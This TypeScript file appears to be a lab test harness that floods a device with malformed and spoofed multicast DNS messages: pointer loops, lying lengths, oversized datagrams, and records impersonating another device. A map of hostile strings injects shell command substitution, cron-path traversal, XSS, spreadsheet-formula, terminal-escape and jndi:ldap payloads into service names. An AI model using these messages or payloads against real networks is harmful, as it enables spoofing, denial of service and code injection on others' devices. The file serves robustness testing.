import type { Attack, Liar } from '../attack.ts'
import {
  a,
  dotted,
  header,
  label,
  name,
  pointer,
  ROOT,
  record,
  response,
  service,
  srvData,
  TYPE,
  txtData,
} from '../dns.ts'
import { ITS_OWN_PORT, ipOf, LIAR, RELAY, RELAY_IS, ROUTER, TRAP } from '../places.ts'
import { MDNS, send } from '../voice.ts'

/** Multicast DNS that lies about its own shape, about itself, and about others (RFC 6762, RFC 1035). */

const own = ipOf(LIAR)
const relay = ipOf(RELAY)
const HTTP = '_http._tcp'
const liarService = (more: Partial<Parameters<typeof service>[0]>): Buffer =>
  service({
    type: HTTP,
    instance: 'Liar',
    host: 'liar.local',
    ip: own,
    port: ITS_OWN_PORT,
    txt: ['model=L1'],
    ...more,
  })
const honestType = ['_shelly', '_tcp', 'local'] as const
const honestName = name(RELAY_IS.host.toLowerCase(), ...honestType)

/** Pointers that each lead two octets back, `links` of them, then a name that starts at the last. */
function pointerChain(links: number): Buffer {
  const start = header({ answers: 1 })
  const chain: Buffer[] = [ROOT]
  for (let i = 0; i < links; i++) chain.push(pointer(i === 0 ? 12 : 13 + 2 * (i - 1)))
  return Buffer.concat([start, ...chain, record(pointer(13 + 2 * (links - 1)), TYPE.TXT, ROOT)])
}

const hostile: Readonly<Record<string, string>> = {
  bidi: 'Kitchen \u202e3pm.exe\u202c \u2066lamp',
  terminal: '\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u009b1m',
  markup: '<img src=x onerror=alert(1)>&lt;script&gt;',
  formula: "=cmd|' /C calc'!A0",
  'new-lines': 'one\r\ntwo\u2028three\u0085four',
  'zero-width': 'La\u200bmp\ufeff\u2060\u00ad\u{e0041}\u{e0042}',
  marks: `Z${'\u0301'.repeat(55)}`,
  nul: 'a\u0000b\u0000c',
  dots: '..%2e%2e/..\\..',
  path: '../../../../etc/cron.d/x',
  shell: '$(touch /tmp/owned);`id`|sh',
  hyperlink: '\u001b]8;;http://10.91.0.1:4799/\u001b\\here\u001b]8;;\u001b\\',
  fillers: '\u115f\u3164\u2800\uffa0',
  annotation: '\ufff9Router\ufffanot\ufffb\u206a\u{e0101}',
  templates: '%s%n%99999999d {{7*7}} \u0024{jndi:ldap://10.91.0.1:4799/a}',
}

/** Messages poured at twenty a second, by the attack's name. */
export const MDNS_MESSAGES: Readonly<Record<string, () => readonly Buffer[]>> = {
  'pointer-to-itself': () => [Buffer.concat([header({ answers: 1 }), record(pointer(12), TYPE.TXT, ROOT)])],
  'pointer-circle': () => [
    Buffer.concat([header({ answers: 1 }), pointer(14), pointer(12), record(pointer(12), TYPE.TXT, ROOT)]),
  ],
  'pointer-forward': () => [
    Buffer.concat([header({ answers: 1 }), record(pointer(40), TYPE.TXT, dotted('x.local'))]),
  ],
  'pointer-past-the-end': () => [
    Buffer.concat([header({ answers: 1 }), record(pointer(9_999), TYPE.A, ROOT)]),
  ],
  'pointer-chain': () => [pointerChain(60), pointerChain(600), pointerChain(4_000)],
  'pointer-into-header': () => [Buffer.concat([header({ answers: 1 }), record(pointer(0), TYPE.TXT, ROOT)])],
  'label-reserved-bits': () => [
    Buffer.concat([header({ answers: 1 }), Buffer.from([0x80, 0x41, 0]), record(ROOT, TYPE.A, ROOT)]),
  ],
  'name-too-long': () => [
    response(
      record(
        Buffer.concat([...Array.from({ length: 8 }, () => label('x'.repeat(63))), ROOT]),
        TYPE.TXT,
        ROOT,
      ),
    ),
  ],
  'many-empty-labels': () => [Buffer.concat([header({ answers: 4_000 }), Buffer.alloc(8_000)])],
  'counts-lie': () => [
    header({ answers: 65_535, more: 65_535, questions: 65_535 }),
    liarService({}).fill(0xff, 6, 8),
  ],
  'length-lies-long': () => [
    response(record(dotted('liar.local'), TYPE.A, Buffer.alloc(4), { length: 60_000 })),
  ],
  'length-lies-short': () => [
    response(record(dotted('liar.local'), TYPE.TXT, txtData(['model=L1']), { length: 3 })),
  ],
  'address-of-three': () => [response(record(dotted('liar.local'), TYPE.A, Buffer.from([10, 91, 0])))],
  'srv-without-target': () => [
    response(record(dotted(`Liar.${HTTP}.local`), TYPE.SRV, Buffer.from([0, 0, 0]))),
  ],
  'txt-length-lies': () => [
    response(record(dotted(`Liar.${HTTP}.local`), TYPE.TXT, Buffer.from([250, 0x61, 0x3d]))),
  ],
  'nsec-forward-pointer': () => [
    response(
      record(dotted('liar.local'), TYPE.NSEC, Buffer.concat([pointer(500), Buffer.from([0, 4, 0x40])])),
    ),
  ],
  'unknown-types': () => [
    response(
      ...Array.from({ length: 200 }, (_, i) => record(dotted('liar.local'), 300 + i, Buffer.alloc(20))),
    ),
  ],
  'txt-huge': () => [liarService({ txt: Array.from({ length: 33 }, (_, i) => `k${i}=${'v'.repeat(240)}`) })],
  'txt-many-keys': () => [liarService({ txt: Array.from({ length: 1_200 }, (_, i) => `k${i}=`) })],
  'txt-prototype': () => [
    liarService({ txt: ['__proto__=x', 'constructor=y', 'toString=z', '=empty', 'model=L1'] }),
  ],
  'txt-binary': () => [
    liarService({ txt: [Buffer.from([0x6d, 0x64, 0x3d, 0xff, 0xfe, 0, 0x80, 0x1b, 0x5b])] }),
  ],
  'trap-port': () => [liarService({ ip: ipOf(ROUTER) })],
  'address-loopback': () => [liarService({ ip: '127.0.0.1' })],
  'address-far': () => [liarService({ ip: '203.0.113.9' })],
  'address-other-interface': () => [liarService({ ip: '172.31.91.1' })],
  'target-is-a-web-name': () => [liarService({ host: 'attacker.example' })],
  'target-is-localhost': () => [liarService({ host: 'localhost' })],
  'port-zero': () => [liarService({ port: 0 })],
  'life-of-eternity': () => [liarService({ ttl: 0xffff_ffff })],
  'life-flaps': () => [liarService({}), liarService({ ttl: 0 })],
  'types-without-end': () =>
    Array.from({ length: 100 }, (_, i) =>
      response(
        ...Array.from({ length: 40 }, (_, j) =>
          record(dotted('_services._dns-sd._udp.local'), TYPE.PTR, dotted(`_t${i}-${j}._tcp.local`)),
        ),
      ),
    ),
  'pointers-only': () =>
    Array.from({ length: 50 }, (_, i) =>
      response(
        ...Array.from({ length: 30 }, (_, j) =>
          record(dotted(`${HTTP}.local`), TYPE.PTR, dotted(`ghost-${i}-${j}.${HTTP}.local`)),
        ),
      ),
    ),
  'target-loop': () => [
    response(
      record(dotted(`Liar.${HTTP}.local`), TYPE.SRV, srvData(80, dotted(`Liar.${HTTP}.local`))),
      record(dotted(`Liar.${HTTP}.local`), TYPE.TXT, ROOT),
    ),
  ],
  'not-local': () => [
    response(
      record(dotted('www.bank.example'), TYPE.A, Buffer.from([10, 91, 0, 66])),
      a('bank.example', own),
    ),
  ],
  truncated: () => Array.from({ length: 40 }, (_, i) => liarService({}).subarray(0, 10 + 3 * i)),
  'goodbye-for-another': () => [
    response(
      record(name(...honestType), TYPE.PTR, honestName, { ttl: 0 }),
      record(honestName, TYPE.SRV, srvData(80, dotted(`${RELAY_IS.host}.local`)), { ttl: 0 }),
      record(honestName, TYPE.TXT, ROOT, { ttl: 0 }),
      a(`${RELAY_IS.host}.local`, relay, 0),
    ),
  ],
  'flush-of-another': () => [
    response(
      record(honestName, TYPE.SRV, srvData(TRAP, dotted(`${RELAY_IS.host}.local`))),
      record(honestName, TYPE.TXT, txtData(['gen=2', 'app=Liar', 'ver=0.0.1'])),
      a(`${RELAY_IS.host}.local`, relay),
    ),
  ],
  'denial-for-another': () => [
    response(
      record(honestName, TYPE.NSEC, Buffer.concat([honestName, Buffer.from([0, 1, 0x40])])),
      record(
        dotted(`${RELAY_IS.host}.local`),
        TYPE.NSEC,
        Buffer.concat([dotted(`${RELAY_IS.host}.local`), Buffer.from([0, 1, 0x40])]),
      ),
    ),
  ],
  'service-at-another': () => [
    liarService({ host: `${RELAY_IS.host}.local`, ip: relay, port: TRAP }),
    liarService({ type: '_ipp._tcp', host: `${RELAY_IS.host}.local`, ip: relay }),
  ],
  'texts-of-another': () => [
    liarService({
      type: '_shelly._tcp',
      txt: [
        'gen=2',
        'app=Plus1',
        `ver=${RELAY_IS.firmware}`,
        'id=shellyplus1-08b61f000021',
        'mac=08B61F000021',
      ],
    }),
  ],
  'questions-without-end': () => [
    Buffer.concat([
      header({ answers: 0, questions: 200, flags: 0x0200 }),
      ...Array.from({ length: 200 }, (_, i) =>
        Buffer.concat([dotted(`_q${i}._tcp.local`), Buffer.from([0, 12, 0, 1])]),
      ),
    ]),
  ],
  'name-of-another': () => [
    service({
      type: '_shelly._tcp',
      instance: RELAY_IS.host.toLowerCase(),
      host: `${RELAY_IS.host}.local`,
      ip: own,
      port: TRAP,
      txt: ['gen=2', 'app=Liar', 'ver=0.0.1'],
    }),
  ],
  'host-of-another': () => [a(`${RELAY_IS.host}.local`, own), a(`${RELAY_IS.host}.local`, ipOf(ROUTER))],
  ...Object.fromEntries(
    Object.entries(hostile).map(([id, text]) => [
      `name-${id}`,
      () => [
        liarService({ instance: text, txt: [`model=${text}`, `fn=${text}`, `md=${text}`, `ver=${text}`] }),
        liarService({ type: '_ipp._tcp', instance: text, txt: [`ty=${text}`, `usb_MDL=${text}`] }),
      ],
    ]),
  ),
}

async function from(by: Liar, port: number, message: Buffer, address: string = own): Promise<void> {
  const socket = await by.speak(port, address)
  for (let i = 0; i < 100; i++) {
    await send(socket, message, MDNS.port, MDNS.group)
    await by.wait(0.05)
  }
}

export const mdnsAttacks: readonly Attack[] = [
  ...Object.entries(MDNS_MESSAGES).map(
    ([id, messages]): Attack => ({
      id: `mdns-${id}`,
      tries: `multicast DNS: ${id.replaceAll('-', ' ')}`,
      run: (by) => by.pour(MDNS, messages(), 20),
    }),
  ),
  {
    id: 'mdns-from-another-port',
    tries: 'a response that does not come from port 5353 (RFC 6762, 6)',
    run: (by) => from(by, 0, liarService({})),
  },
  {
    id: 'mdns-largest-datagrams',
    tries: 'datagrams of 60 kB, larger than any message may be (RFC 6762, 17)',
    run: (by) => by.pour(MDNS, [Buffer.concat([liarService({}), Buffer.alloc(59_000)])], 20),
  },
]
